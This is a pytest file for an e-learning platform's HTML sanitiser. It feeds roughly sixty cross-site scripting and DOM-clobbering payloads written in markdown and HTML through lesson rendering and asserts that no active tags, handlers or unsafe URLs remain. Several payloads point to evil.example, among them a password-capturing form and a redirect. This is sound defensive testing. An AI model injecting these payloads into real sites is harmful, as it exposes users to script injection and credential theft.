"""Authors are untrusted: nothing they write becomes a script, a handler, a frame or a clobbered name."""

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from elearn.content.sanitising import clean
from tests.content.courses import lesson_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "text <script\nsrc=x>alert(1)</script> text",
    "<img src=x onerror=alert(1)>",
    "![x](x.png \"y\" onerror=alert(1))",
    "![\" onerror=\"alert(1)](x.png)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x](//evil.example)",
    "<iframe src=https://evil.example></iframe>",
    "<style>body{display:none}</style>",
    "<form action=https://evil.example><input name=password></form>",
    "<svg onload=alert(1)>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<sub onclick=\"alert(1)\">x</sub>",
    "<span style=\"position:fixed\" lang=\"en\">x</span>",
    "<abbr title='\"><script>alert(1)</script>'>x</abbr>",
    "<img name=getElementById>",
    "<form id=attributes>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<object data=x></object><embed src=x>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "> [!NOTE] <script>alert(1)</script>\n> <img src=x onerror=alert(1)>",
    "> [!\"><script>alert(1)</script>]\n> x",
    "/// details | <script>alert(1)</script>\n<img src=x onerror=alert(1)>\n///",
    "<details ontoggle=alert(1)><summary onclick=alert(1)>x</summary>\ny\n</details>",
    "| a | <script>alert(1)</script> |\n|---|---|\n| <img src=x onerror=alert(1)> | b |",
    "term\n: <script>alert(1)</script>",
    "x[^n]\n\n[^n]: <script>alert(1)</script>",
    "x[^\"onclick=\"alert(1)]\n\n[^\"onclick=\"alert(1)]: y",
    "[@zni <script>alert(1)</script>]",
    "[@\"><script>alert(1)</script>]",
    "## <script>alert(1)</script>",
    "## \" onclick=\"alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\x02script\x03 klzzwxh:0001 \x02klzzwxh:0000\x03",
    "\x02amp\x03lt;script\x02amp\x03gt;",
    "*<script>*alert(1)*</script>*",
    "<<script>script>alert(1)<</script>/script>",
    "```mermaid\nflowchart LR\n A[<script>alert(1)</script>] --> B\n click A javascript:x\n```\n> Description: x",
    "{: onclick=alert(1) #x .y }",
    "# x {#y onclick=alert(1)}",
]  # fmt: skip
ACTIVE = {"script", "style", "iframe", "object", "embed", "form", "input", "base", "meta", "svg", "math", "link"}


class Reader(HTMLParser):
    """What a browser would make of it."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.ids: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ACTIVE:
            self.wrong.append(tag)
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "name", "srcdoc", "action", "formaction"}:
                self.wrong.append(f"{tag} {name}")
            if name in {"href", "src"} and not re.match(r"https?://|mailto:|tel:|/(?!/)|#|[\w./-]+$", value or ""):
                self.wrong.append(f"{tag} {name}={value}")
            if name == "id":
                self.ids.append(value or "")


@pytest.mark.parametrize("body", HOSTILE)
def test_nothing_hostile_reaches_the_page(tmp_path: Path, body: str) -> None:
    html = lesson_html(tmp_path, f"Opening.\n\n{body}\n\nClosing.\n")
    reader = Reader()
    reader.feed(html)
    assert reader.wrong == [], html
    assert "Opening." in html
    assert "\x02" not in html


@pytest.mark.parametrize("body", HOSTILE)
def test_ids_cannot_take_the_names_of_the_page(tmp_path: Path, body: str) -> None:
    reader = Reader()
    reader.feed(lesson_html(tmp_path, f"Opening.\n\n{body}\n"))
    assert all(name.startswith("why-") for name in reader.ids)
    assert len(reader.ids) == len(set(reader.ids))


@pytest.mark.parametrize(
    "piece", ["<script>x</script>", "<p onclick=x>y</p>", "<a href='javascript:x'>y</a>", "<p style=x>"]
)
def test_the_last_gate_holds_alone(piece: str) -> None:
    assert not re.search(r"script|onclick|style", clean(piece))
